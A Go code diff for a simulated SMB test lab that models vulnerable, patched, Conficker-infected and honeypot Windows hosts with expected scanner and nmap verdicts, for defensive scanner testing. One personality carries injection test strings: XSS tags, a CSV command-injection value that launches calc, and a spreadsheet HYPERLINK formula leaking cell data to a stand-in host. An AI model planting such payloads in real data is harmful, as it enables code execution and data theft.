@@ -1,10 +1,48 @@
 package smblab
 
 import (
-	"github.com/scan445/scan445/smbprobe"
 	"github.com/scan445/scan445/smbprobe/ntlmssp"
 	"github.com/scan445/scan445/smbprobe/ntstatus"
 )
+
+// Verdict is a verdict string of smbprobe.Verdict ("vulnerable", "exposed", …). smblab does
+// not import package smbprobe, so that smbprobe's own (internal) tests can import the lab
+// without an import cycle; compare with string(finding.Verdict).
+type Verdict string
+
+// The verdicts of smbprobe/result.go.
+const (
+	Vulnerable  Verdict = "vulnerable"
+	Infected    Verdict = "infected"
+	Exposed     Verdict = "exposed"
+	Patched     Verdict = "patched"
+	NotAffected Verdict = "not-affected"
+	Unknown     Verdict = "unknown"
+	Error       Verdict = "error"
+)
+
+// Check ids, as smbprobe.Check* spells them.
+const (
+	CheckMS08067       = "ms08-067"
+	CheckConficker     = "conficker"
+	CheckMS17010       = "ms17-010"
+	CheckSMBv1         = "smbv1-enabled"
+	CheckSigning       = "signing-not-required"
+	CheckNullSession   = "anonymous-ipc"
+	CheckSrvsvcAnon    = "srvsvc-anonymous"
+	CheckOSUnsupported = "os-unsupported"
+	CheckConfickerP2P  = "conficker-p2p"
+)
+
+// ServerInfo101 is what NetrServerGetInfo level 101 answers.
+type ServerInfo101 struct {
+	PlatformID uint32 `json:"platform_id"`
+	Name       string `json:"name"`
+	Major      uint32 `json:"version_major"`
+	Minor      uint32 `json:"version_minor"`
+	Type       uint32 `json:"type"`
+	Comment    string `json:"comment"`
+}
 
 // Hostility names a way a hostile host misbehaves. The empty value is a well-behaved host.
 type Hostility string
@@ -51,7 +89,8 @@ type NmapTruth struct {
 	SMB2Sign   string   // smb2-security-mode, e.g. "Message signing enabled but not required"
 	MS08067    string   // smb-vuln-ms08-067 state: "VULNERABLE", "LIKELY VULNERABLE", "NOT VULNERABLE", "" = no output
 	MS08Crash  bool     // nmap's MS08-067 probe makes the lab log CRASH for this host
-	Conficker  string   // smb-vuln-conficker: substring of its output
+	Conficker  string   // smb-vuln-conficker state
+	Variant    string   // smb-vuln-conficker extra information, substring ("Conficker.C or lower")
 	MS17010    string   // smb-vuln-ms17-010 state
 	Honeypot   bool     // nmap is fooled by a honeypot here (documented, not a lab bug)
 	Unreliable bool     // hostile host: only "nmap neither hangs nor crashes" is asserted
@@ -78,47 +117,46 @@ type Personality struct {
 	NegotiateBlob          bool            // SPNEGO negTokenInit in NEGOTIATE (NT 6.0 and later)
 	BasicSecurityOnly      bool            // never negotiates extended security
 
-	NullSession     bool                        // anonymous SESSION_SETUP accepted
-	AnonIPC         bool                        // anonymous TREE_CONNECT IPC$ accepted
-	AnonPipes       map[string]ntstatus.Status  // anonymous NT_CREATE result per pipe; absent: ACCESS_DENIED
-	BrowserDisabled bool                        // \browser is OBJECT_NAME_NOT_FOUND for everyone
-	Account         *Account                    // a named account; nil: none
-	ServerInfo      smbprobe.ServerInfo101      // NetrServerGetInfo level 101
-	Srvsvc          SrvsvcModel                 //
-	NameCanonLegacy bool                        // NetprNameCanonicalize accepts OutbufLen > 64000 (XP SP0/SP1)
-	TODReferent     uint32                      // referent id of NetrRemoteTOD's pointer (SP3: 0x00020000)
-	MS17010         ntstatus.Status             // PeekNamedPipe on FID 0
-	P2P             bool                        // runs a Conficker P2P responder on its derived ports
-	Truth           map[string]smbprobe.Verdict // check id → verdict a correct scanner reaches
+	NullSession     bool                       // anonymous SESSION_SETUP accepted
+	AnonIPC         bool                       // anonymous TREE_CONNECT IPC$ accepted
+	AnonPipes       map[string]ntstatus.Status // anonymous NT_CREATE result per pipe; absent: ACCESS_DENIED
+	BrowserDisabled bool                       // \browser is OBJECT_NAME_NOT_FOUND for everyone
+	Account         *Account                   // a named account; nil: none
+	ServerInfo      ServerInfo101              // NetrServerGetInfo level 101
+	Srvsvc          SrvsvcModel                //
+	NameCanonLegacy bool                       // NetprNameCanonicalize accepts OutbufLen > 64000 (XP SP0/SP1)
+	TODReferent     uint32                     // referent id of NetrRemoteTOD's pointer (SP3: 0x00020000)
+	MS17010         ntstatus.Status            // PeekNamedPipe on FID 0
+	P2P             bool                       // runs a Conficker P2P responder on its derived ports
+	Truth           map[string]Verdict         // check id → verdict a correct scanner reaches
 	Nmap            NmapTruth
 	Notes           string
 }
 
 var allChecks = []string{
-	smbprobe.CheckMS08067, smbprobe.CheckConficker, smbprobe.CheckMS17010, smbprobe.CheckSMBv1,
-	smbprobe.CheckSigning, smbprobe.CheckNullSession, smbprobe.CheckSrvsvcAnon,
-	smbprobe.CheckOSUnsupported, smbprobe.CheckConfickerP2P,
+	CheckMS08067, CheckConficker, CheckMS17010, CheckSMBv1, CheckSigning, CheckNullSession,
+	CheckSrvsvcAnon, CheckOSUnsupported, CheckConfickerP2P,
 }
 
 // Checks lists the check ids every truth table covers, in report order.
 func Checks() []string { return append([]string(nil), allChecks...) }
 
-type v = smbprobe.Verdict
+type v = Verdict
 
 const (
-	vuln = smbprobe.Vulnerable
-	inf  = smbprobe.Infected
-	exp  = smbprobe.Exposed
-	pat  = smbprobe.Patched
-	na   = smbprobe.NotAffected
-	unk  = smbprobe.Unknown
-	errv = smbprobe.Error
+	vuln = Vulnerable
+	inf  = Infected
+	exp  = Exposed
+	pat  = Patched
+	na   = NotAffected
+	unk  = Unknown
+	errv = Error
 )
 
 // truth builds a table in allChecks order: ms08-067, conficker, ms17-010, smbv1-enabled,
 // signing-not-required, anonymous-ipc, srvsvc-anonymous, os-unsupported, conficker-p2p.
-func truth(vs ...v) map[string]smbprobe.Verdict {
-	m := make(map[string]smbprobe.Verdict, len(allChecks))
+func truth(vs ...v) map[string]Verdict {
+	m := make(map[string]Verdict, len(allChecks))
 	for i, c := range allChecks {
 		m[c] = vs[i]
 	}
@@ -154,10 +192,11 @@ func xpBase(name, desc, computer string) Personality {
 		Name: name, Description: desc,
 		SMB1:     true,
 		NativeOS: "Windows 5.1", NativeLANMan: "Windows 2000 LAN Manager",
-		Workgroup: "WORKGROUP", Computer: computer, DNSComputer: toLowerASCII(computer),
+		// A workgroup machine's NTLM DNS domain is its own DNS name (nmap then prints Workgroup).
+		Workgroup: "WORKGROUP", Computer: computer, DNSComputer: toLowerASCII(computer), DNSDomain: toLowerASCII(computer),
 		NTLMVersion: verXP,
 		NullSession: true, AnonIPC: true, AnonPipes: pipesSP2(),
-		ServerInfo:  smbprobe.ServerInfo101{PlatformID: 500, Name: computer, Major: 5, Minor: 1, Type: 0x00001003},
+		ServerInfo:  ServerInfo101{PlatformID: 500, Name: computer, Major: 5, Minor: 1, Type: 0x00001003},
 		Srvsvc:      SrvsvcUnpatched,
 		TODReferent: 0x00020000,
 		MS17010:     ntstatus.InsuffServerResources,
@@ -168,7 +207,7 @@ func w2003Base(name, desc, computer string) Personality {
 	p := xpBase(name, desc, computer)
 	p.NativeOS, p.NativeLANMan = "Windows Server 2003 3790 Service Pack 2", "Windows Server 2003 5.2"
 	p.NTLMVersion = ver2003
-	p.ServerInfo = smbprobe.ServerInfo101{PlatformID: 500, Name: computer, Major: 5, Minor: 2, Type: 0x00009003}
+	p.ServerInfo = ServerInfo101{PlatformID: 500, Name: computer, Major: 5, Minor: 2, Type: 0x00009003}
 	return p
 }
 
@@ -204,14 +243,14 @@ func DefaultPersonalities() []Personality {
 	w2k.ServerInfo.Minor = 0
 	w2k.Truth = truth(exp, pat, vuln, exp, exp, exp, exp, exp, pat)
 	w2k.Nmap = NmapTruth{OS: "Windows 2000", Dialects: []string{"NT LM 0.12 (SMBv1) [dangerous, but default]"},
-		SMB1Sign: nmapSign1Default, MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "Likely CLEAN", MS17010: "VULNERABLE"}
+		SMB1Sign: nmapSign1Default, MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, w2k)
 
 	xp2 := xpBase("xp-sp2", "Windows XP SP2, MS08-067 unpatched", "XPSP2")
 	xp2.TODReferent = 0x00010000
 	xp2.Truth = truth(exp, pat, vuln, exp, exp, exp, exp, exp, pat)
 	xp2.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "Likely CLEAN", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, xp2)
 
 	xp3p := xpBase("xp-sp3-patched", "Windows XP SP3 with KB958644 (and MS17-010)", "XPSP3PATCHED")
@@ -220,21 +259,21 @@ func DefaultPersonalities() []Personality {
 	xp3p.Account = &Account{User: "labadmin", Password: "Lab-Passw0rd!"}
 	xp3p.Truth = truth(exp, pat, pat, exp, exp, exp, exp, exp, pat)
 	xp3p.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", Conficker: "Likely CLEAN", MS17010: "NOT VULNERABLE"}
+		MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "NOT VULNERABLE"}
 	xp3p.Notes = "patch state is visible only to the intrusive or credentialed check; the safe fingerprint says exposed"
 	ps = append(ps, xp3p)
 
 	w3 := w2003Base("w2003-sp2", "Windows Server 2003 SP2, MS08-067 unpatched", "W2K3SP2")
 	w3.Truth = truth(exp, pat, vuln, exp, exp, exp, exp, exp, pat)
 	w3.Nmap = NmapTruth{OS: "Windows Server 2003", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "Likely CLEAN", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", MS08Crash: true, Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, w3)
 
 	w3b := w2003Base("w2003-sp2-conficker-b", "Windows Server 2003 SP2 infected with Conficker B", "W2K3INFECTED")
 	w3b.Srvsvc = SrvsvcConfickerABC
 	w3b.Truth = truth(exp, inf, vuln, exp, exp, exp, exp, exp, pat)
 	w3b.Nmap = NmapTruth{OS: "Windows Server 2003", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", Conficker: "Likely INFECTED (by Conficker.C or lower)", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", Conficker: "LIKELY VULNERABLE", Variant: "Conficker.C or lower", MS17010: "VULNERABLE"}
 	ps = append(ps, w3b)
 
 	xpd := xpBase("xp-sp3-conficker-d", "Windows XP SP3 infected with Conficker D (P2P on)", "XPSP3CONFD")
@@ -242,42 +281,42 @@ func DefaultPersonalities() []Personality {
 	xpd.P2P = true
 	xpd.Truth = truth(exp, inf, vuln, exp, exp, exp, exp, exp, inf)
 	xpd.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", Conficker: "Likely INFECTED (by Conficker.D or higher)", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", Conficker: "LIKELY VULNERABLE", Variant: "Conficker.D or higher", MS17010: "VULNERABLE"}
 	ps = append(ps, xpd)
 
 	vista := nt6Base("vista-sp1", "Windows Vista SP1: SMB 2.0.2 + SMB1, pipes need authentication", "VISTASP1")
 	vista.NativeOS, vista.NativeLANMan = "Windows Vista (TM) Business 6001 Service Pack 1", "Windows Vista (TM) Business 6.0"
 	vista.SMB2Dialects = []uint16{0x0202}
 	vista.NTLMVersion = verVista1
-	vista.ServerInfo = smbprobe.ServerInfo101{PlatformID: 500, Name: "VISTASP1", Major: 6, Minor: 0, Type: 0x00001003}
+	vista.ServerInfo = ServerInfo101{PlatformID: 500, Name: "VISTASP1", Major: 6, Minor: 0, Type: 0x00001003}
 	vista.Account = &Account{User: "labadmin", Password: "Lab-Passw0rd!"}
 	vista.Truth = truth(exp, unk, vuln, exp, exp, exp, na, exp, pat)
-	vista.Nmap = NmapTruth{OS: "Windows Vista", Dialects: []string{"NT LM 0.12 (SMBv1) [dangerous, but default]", "2.0.2"},
-		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", MS17010: "VULNERABLE"}
+	vista.Nmap = NmapTruth{OS: "Windows Vista", Dialects: []string{"NT LM 0.12 (SMBv1) [dangerous, but default]", "202"},
+		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, vista)
 
 	w8 := nt6Base("w2008-sp2", "Windows Server 2008 SP2 (not affected by MS08-067)", "W2K8SP2")
 	w8.NativeOS, w8.NativeLANMan = "Windows Server (R) 2008 Standard 6002 Service Pack 2", "Windows Server (R) 2008 Standard 6.0"
 	w8.SMB2Dialects = []uint16{0x0202}
 	w8.NTLMVersion = ver2008_2
-	w8.ServerInfo = smbprobe.ServerInfo101{PlatformID: 500, Name: "W2K8SP2", Major: 6, Minor: 0, Type: 0x00009003}
+	w8.ServerInfo = ServerInfo101{PlatformID: 500, Name: "W2K8SP2", Major: 6, Minor: 0, Type: 0x00009003}
 	w8.Srvsvc = SrvsvcPatched
 	w8.MS17010 = ntstatus.InvalidHandle
 	w8.Account = &Account{User: "labadmin", Password: "Lab-Passw0rd!"}
 	w8.Truth = truth(na, unk, pat, exp, exp, exp, na, exp, pat)
 	w8.Nmap = NmapTruth{OS: "Windows Server (R) 2008", Dialects: vista.Nmap.Dialects,
-		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", MS17010: "NOT VULNERABLE"}
+		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "NOT VULNERABLE"}
 	ps = append(ps, w8)
 
 	w7 := nt6Base("win7-sp1", "Windows 7 SP1, MS17-010 unpatched (SMB1 + SMB 2.1)", "WIN7SP1")
 	w7.NativeOS, w7.NativeLANMan = "Windows 7 Professional 7601 Service Pack 1", "Windows 7 Professional 6.1"
 	w7.SMB2Dialects = []uint16{0x0202, 0x0210}
 	w7.NTLMVersion = ver7SP1
-	w7.ServerInfo = smbprobe.ServerInfo101{PlatformID: 500, Name: "WIN7SP1", Major: 6, Minor: 1, Type: 0x00001003}
+	w7.ServerInfo = ServerInfo101{PlatformID: 500, Name: "WIN7SP1", Major: 6, Minor: 1, Type: 0x00001003}
 	w7.Srvsvc = SrvsvcPatched
 	w7.Truth = truth(na, unk, vuln, exp, exp, exp, na, exp, pat)
-	w7.Nmap = NmapTruth{OS: "Windows 7", Dialects: []string{"NT LM 0.12 (SMBv1) [dangerous, but default]", "2.0.2", "2.1"},
-		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", MS17010: "VULNERABLE"}
+	w7.Nmap = NmapTruth{OS: "Windows 7", Dialects: []string{"NT LM 0.12 (SMBv1) [dangerous, but default]", "202", "210"},
+		SMB1Sign: nmapSign1Default, SMB2Sign: nmapSign2Enabled, MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, w7)
 
 	w12 := nt6Base("w2012r2-nosmb1", "Windows Server 2012 R2, SMB1 disabled, signing required", "W2012R2")
@@ -286,25 +325,28 @@ func DefaultPersonalities() []Personality {
 	w12.SMB2Dialects = []uint16{0x0202, 0x0210, 0x0300, 0x0302}
 	w12.SigningEnabled, w12.SigningRequired = true, true
 	w12.NTLMVersion = ver2012R2
-	w12.ServerInfo = smbprobe.ServerInfo101{PlatformID: 500, Name: "W2012R2", Major: 6, Minor: 3, Type: 0x00009003}
+	w12.ServerInfo = ServerInfo101{PlatformID: 500, Name: "W2012R2", Major: 6, Minor: 3, Type: 0x00009003}
 	w12.Srvsvc = SrvsvcPatched
 	w12.MS17010 = ntstatus.InvalidHandle
 	w12.Truth = truth(na, unk, na, na, na, exp, na, exp, pat)
-	w12.Nmap = NmapTruth{Dialects: []string{"2.0.2", "2.1", "3.0", "3.0.2"}, SMB2Sign: nmapSign2Req}
+	w12.Nmap = NmapTruth{Dialects: []string{"202", "210", "300", "302"}, SMB2Sign: nmapSign2Req,
+		Conficker: "NOT VULNERABLE", MS17010: "NOT VULNERABLE"}
 	ps = append(ps, w12)
 
 	xpra := xpBase("xp-restrict-anonymous", "Windows XP SP2 with RestrictAnonymous=2: IPC$ refused to null sessions", "XPRESTRICT")
 	xpra.AnonIPC = false
 	xpra.TODReferent = 0x00010000
 	xpra.Truth = truth(exp, unk, unk, exp, exp, na, na, exp, pat)
-	xpra.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default}
+	// nmap says NOT VULNERABLE when it cannot get in; the truth is unknown.
+	xpra.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
+		MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "NOT VULNERABLE"}
 	ps = append(ps, xpra)
 
 	xpnb := xpBase("xp-no-browser", "Windows XP SP3 unpatched with the Computer Browser service disabled", "XPNOBROWSER")
 	xpnb.BrowserDisabled = true
 	xpnb.Truth = truth(exp, unk, vuln, exp, exp, exp, na, exp, pat)
 	xpnb.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", MS17010: "VULNERABLE"}
+		MS08067: "NOT VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "VULNERABLE"}
 	ps = append(ps, xpnb)
 
 	hp := xpBase("honeypot-xp", "a Dionaea-like honeypot imitating Windows XP (NetprPathCompare always 0)", "HONEYXP")
@@ -313,7 +355,7 @@ func DefaultPersonalities() []Personality {
 	hp.MS17010 = ntstatus.NotImplemented
 	hp.Truth = truth(exp, pat, unk, exp, exp, exp, exp, exp, pat)
 	hp.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "VULNERABLE", Conficker: "Likely CLEAN", MS17010: "NOT VULNERABLE", Honeypot: true}
+		MS08067: "VULNERABLE", Conficker: "NOT VULNERABLE", MS17010: "NOT VULNERABLE", Honeypot: true}
 	hp.Notes = "tell-tale: NetprPathCompare of two different safe paths returns 0; a scanner that probes it should set Fingerprint.Honeypot"
 	ps = append(ps, hp)
 
@@ -322,7 +364,7 @@ func DefaultPersonalities() []Personality {
 	xpc.P2P = true
 	xpc.Truth = truth(exp, inf, vuln, exp, exp, exp, exp, exp, inf)
 	xpc.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", Conficker: "Likely INFECTED (by Conficker.C or lower)", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", Conficker: "LIKELY VULNERABLE", Variant: "Conficker.C or lower", MS17010: "VULNERABLE"}
 	ps = append(ps, xpc)
 
 	xpbasic := xpBase("xp-basic-only-conficker", "Windows XP SP2 infected with Conficker B that only accepts basic-security null sessions", "XPBASIC")
@@ -331,14 +373,14 @@ func DefaultPersonalities() []Personality {
 	xpbasic.TODReferent = 0x00010000
 	xpbasic.Truth = truth(exp, inf, vuln, exp, exp, exp, exp, exp, pat)
 	xpbasic.Nmap = NmapTruth{OS: "Windows XP", Dialects: w2k.Nmap.Dialects, SMB1Sign: nmapSign1Default,
-		MS08067: "NOT VULNERABLE", Conficker: "Likely INFECTED (by Conficker.C or lower)", MS17010: "VULNERABLE"}
+		MS08067: "LIKELY VULNERABLE", Conficker: "LIKELY VULNERABLE", Variant: "Conficker.C or lower", MS17010: "VULNERABLE"}
 	ps = append(ps, xpbasic)
 
 	inj := xpBase("hostile-injection", "an SMB1 host whose names are HTML/CSV injection strings", `"><img src=x onerror=alert(1)>`)
 	inj.NativeOS = "<script>alert(1)</script>"
 	inj.NativeLANMan = "=cmd|' /C calc'!A0"
 	inj.Workgroup = `=HYPERLINK("http://x/?"&A1)`
-	inj.DNSComputer = "<b>bold</b>.example"
+	inj.DNSComputer, inj.DNSDomain = "<b>bold</b>.example", "<i>x</i>"
 	inj.NTLMVersion = ntlmssp.Version{}
 	inj.BrowserDisabled = true
 	inj.AnonPipes = map[string]ntstatus.Status{}
@@ -373,7 +415,7 @@ func DefaultPersonalities() []Personality {
 
 // Accepts reports whether v is an acceptable verdict for check on this personality: the truth
 // table's verdict, or for a hostile host's "error" also "unknown".
-func (p *Personality) Accepts(check string, got smbprobe.Verdict) bool {
+func (p *Personality) Accepts(check string, got Verdict) bool {
 	want, ok := p.Truth[check]
 	if !ok {
 		return false
